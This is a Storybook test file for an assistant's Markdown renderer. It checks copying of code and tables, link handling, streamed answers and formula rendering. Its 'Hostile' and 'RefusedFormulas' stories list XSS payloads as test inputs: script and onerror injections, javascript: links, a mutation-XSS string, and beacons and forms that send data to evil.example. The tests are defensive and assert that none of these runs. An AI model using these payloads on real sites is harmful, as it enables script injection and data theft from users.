import { createEmitter } from '@portal/machine';
import type { Meta, StoryObj } from '@storybook/react-vite';
import { useState } from 'react';
import { expect, fn, userEvent, waitFor, within } from 'storybook/test';
import type { LiveAnswer } from '../runtime/types.ts';
import { LiveMarkdown } from './LiveMarkdown.tsx';
import { Markdown } from './Markdown.tsx';
import { MarkdownContext } from './MarkdownOptions.ts';

const onNavigate = fn();
const onCopy = fn();

const ANSWER = `## 近30天库存

**注意：**库存周转已升至 **41 天**，재고 회전율**(일)**이 높아요。See \`SKU-20391\`.

| 站点 | 订单 | 退货率 |
|---|---:|:---:|
| **US** | 1,204 | 2.1% |
| 德国站点的一个很长很长的名字，用来看表格里怎样换行 | 88 | 4.0% |

- [x] 已核对在途库存
- [ ] 清理滞销
  1. 打折
  2. 移除

> 数据来自昨天的报表。

\`\`\`sql
select marketplace, count(*) from orders where created_at >= now() - interval '30 days' group by marketplace order by 2 desc
\`\`\`

详情见[库存页面](/list/stock?view=slow)，或[官方说明](https://docs.example.com/stock)。`;

type ExampleProps = { source: string; isLive?: boolean };

function Example({ source, isLive = false }: ExampleProps) {
  const [live] = useState(() => createLive(source));
  return (
    <MarkdownContext value={{ onNavigate, onCopy }}>
      <div data-testid="answer">{isLive ? <LiveMarkdown live={live} /> : <Markdown source={source} />}</div>
    </MarkdownContext>
  );
}

/** An answer that arrives in pieces of a few letters. */
function createLive(source: string): LiveAnswer {
  const changed = createEmitter();
  let length = 0;
  const arrive = () => {
    length = Math.min(source.length, length + 7);
    changed.emit();
    if (length < source.length) setTimeout(arrive, 5);
  };
  return {
    message_id: 'm',
    shownAtStart: { think: 0, content: 0 },
    read: () => ({
      think: '',
      content: source.slice(0, length),
      isEnded: length === source.length,
      startedAt: 0,
    }),
    subscribe(listener) {
      if (changed.size === 0) setTimeout(arrive, 5);
      return changed.subscribe(listener);
    },
    setShown: () => {},
    isHalted: () => false,
  };
}

const meta = {
  title: 'Assistant/Markdown',
  component: Example,
  subcomponents: { Markdown, LiveMarkdown },
  args: { source: ANSWER },
} satisfies Meta<typeof Example>;
export default meta;
type Story = StoryObj<typeof meta>;

export const Answer: Story = {
  name: '[I121] code is copied as it stands, a table as cells; both scroll inside',
  play: async ({ canvas, canvasElement }) => {
    await userEvent.click(canvas.getByRole('button', { name: '复制代码' }));
    await expect(onCopy).toHaveBeenLastCalledWith(expect.stringMatching(/^select marketplace.*desc$/));
    await userEvent.click(canvas.getByRole('button', { name: '复制表格' }));
    await expect(onCopy).toHaveBeenLastCalledWith(
      expect.stringMatching(/^站点\t订单\t退货率\r\nUS\t1,204\t2\.1%/),
    );
    await expect(canvas.getByRole('checkbox', { name: '已完成' })).toBeChecked();
    await expect(canvas.getByRole('checkbox', { name: '未完成' })).not.toBeChecked();
    await expect(canvasElement.scrollWidth).toBeLessThanOrEqual(canvasElement.clientWidth);
  },
};

export const Dark: Story = { args: {}, globals: { locale: 'ko-KR', theme: 'dark' } };

export const Links: Story = {
  name: '[I123] pages of the portal open in it, others in a new window with their host named',
  globals: { locale: 'en-US' },
  play: async ({ canvas }) => {
    await userEvent.click(canvas.getByRole('link', { name: '库存页面' }));
    await expect(onNavigate).toHaveBeenCalledWith('/list/stock?view=slow');
    const outside = canvas.getByRole('link', { name: '官方说明' });
    await expect(outside).toHaveAttribute('target', '_blank');
    await expect(outside).toHaveAttribute('rel', expect.stringContaining('noopener'));
    await expect(canvas.getByText('(docs.example.com)')).toBeVisible();
  },
};

const HOSTILE = [
  '<img src=x onerror="window.pwned=1">',
  '<script>window.pwned=1</script>',
  '<svg/onload="window.pwned=1">',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '[click](javascript:window.pwned=1)',
  '[click](java&#115;cript:window.pwned=1)',
  '[click](<javascript:window.pwned=1>)',
  '<javascript:window.pwned=1>',
  '![x](javascript:window.pwned=1)',
  '![beacon](https://evil.example/?d=SECRET)',
  '![x][e]',
  '[e]: https://evil.example/?ref=1',
  '<a href="javascript:window.pwned=1">x</a>',
  '<form action="https://evil.example"><input name="q"></form>',
  '<style>body{display:none}</style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  '`<img src=x onerror=window.pwned=1>`',
  '```html\n<img src=x onerror=window.pwned=1>\n```',
  '```"onmouseover="window.pwned=1\nx\n```',
  '| a |\n|---|\n| <img src=x onerror=window.pwned=1> |',
];

export const Hostile: Story = {
  name: '[I122] nothing that an answer writes is run, and nothing is loaded from elsewhere',
  args: { source: HOSTILE.join('\n\n') },
  play: async ({ canvas }) => {
    const answer = canvas.getByTestId('answer');
    await expect(
      answer.querySelectorAll('script, iframe, form, style, svg, math, object, embed, img'),
    ).toHaveLength(0);
    const protocols = [...answer.querySelectorAll('a')].map(({ protocol }) => protocol);
    await expect(protocols.length).toBeGreaterThan(0);
    await expect(protocols.filter((protocol) => !/^https?:$/.test(protocol))).toEqual([]);
    const attributes = [...answer.querySelectorAll('*')].flatMap((element) => element.getAttributeNames());
    await expect(attributes.filter((name) => name.startsWith('on'))).toEqual([]);
    await expect('pwned' in window).toBe(false);
  },
};

export const Arriving: Story = {
  name: '[I124] an answer that arrives ends as its whole text drawn at once',
  args: { isLive: true },
  render: (args) => (
    <>
      <div data-testid="live">
        <Example {...args} />
      </div>
      <div data-testid="whole" hidden>
        <Example source={args.source} />
      </div>
    </>
  ),
  play: async ({ canvasElement }) => {
    const [live, whole] = ['live', 'whole'].map((id) => within(canvasElement).getByTestId(id));
    await waitFor(() => expect(live?.innerHTML).toBe(whole?.innerHTML), { timeout: 20_000 });
  },
};

const FORMULAS = `盈亏平衡时的广告费占比：\\(\\mathrm{ACOS}_{be} = \\frac{p - c - f}{p}\\)，其中 p 为售价。

$$
\\mathrm{ROP} = \\bar d \\cdot L + z\\,\\sigma_d\\sqrt{L}
$$

毛利从 $5 升到 $10。`;

export const Formulas: Story = {
  name: '[I128] formulas are drawn as MathML, inside a line and on lines of their own',
  args: { source: FORMULAS },
  play: async ({ canvasElement }) => {
    const formulas = () => [...canvasElement.querySelectorAll('math')];
    await waitFor(() => expect(formulas()).toHaveLength(2));
    await expect(formulas().map((one) => one.getAttribute('display'))).toEqual([null, 'block']);
    await expect(within(canvasElement).getByText(/毛利从 \$5 升到 \$10/)).toBeVisible();
  },
};

export const RefusedFormulas: Story = {
  name: '[I128] what would load or link something, and what is no formula, is shown as it was written',
  globals: { theme: 'dark' },
  args: {
    source: String.raw`\(\href{javascript:alert(1)}{x}\) \(\includegraphics{https://evil.example/a.png}\) \(\frac{1\) \(1+1\)`,
  },
  play: async ({ canvasElement }) => {
    await waitFor(() => expect(canvasElement.querySelector('math')).not.toBeNull());
    await expect(canvasElement.querySelector('[href], [src]')).toBeNull();
    for (const source of [String.raw`\href{javascript:alert(1)}{x}`, String.raw`\frac{1`])
      await expect(within(canvasElement).getByText(source)).toBeVisible();
  },
};
